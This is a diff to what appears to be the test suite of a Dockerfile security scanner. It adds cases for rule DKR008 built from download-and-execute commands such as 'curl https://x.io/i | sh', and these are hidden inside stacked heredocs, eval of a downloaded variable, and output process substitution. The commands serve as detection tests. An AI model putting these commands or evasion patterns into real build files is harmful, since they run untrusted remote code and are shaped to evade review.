@@ -151,6 +151,33 @@ CASES = {
         + "\n",
         "DKR008",
     ),
+    # Every heredoc of a line feeds the command that ends after it: each command takes its
+    # own, not all those still pending.
+    "dockerfile-heredocs-on-one-line": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN "
+        + "cat <<A;" * (LONG // 8)
+        + " bash <<B\n"
+        + "x\nA\n" * (LONG // 8)
+        + "curl https://x.io/i | sh\nB\n",
+        "DKR008",
+    ),
+    # Variables holding a download, followed through scripts run inside one another.
+    "dockerfile-download-variables": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN "
+        + _many("v{i}=$(curl https://x.io/i); ", 1_500)
+        + _many("sh -c 'echo {i}'; ", 2_500)
+        + 'eval "$v0"\n',
+        "DKR008",
+    ),
+    "dockerfile-output-process-substitutions": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN curl https://x.io/i | tee "
+        + ">(cat) " * (LONG // 8)
+        + "> >(sh)\n",
+        "DKR008",
+    ),
     "dockerfile-interpreter-digits": (
         "Dockerfile",
         "FROM python:3.12-slim\nRUN curl -fsSL https://x.io/i | python" + "3" * LONG + "x\n",
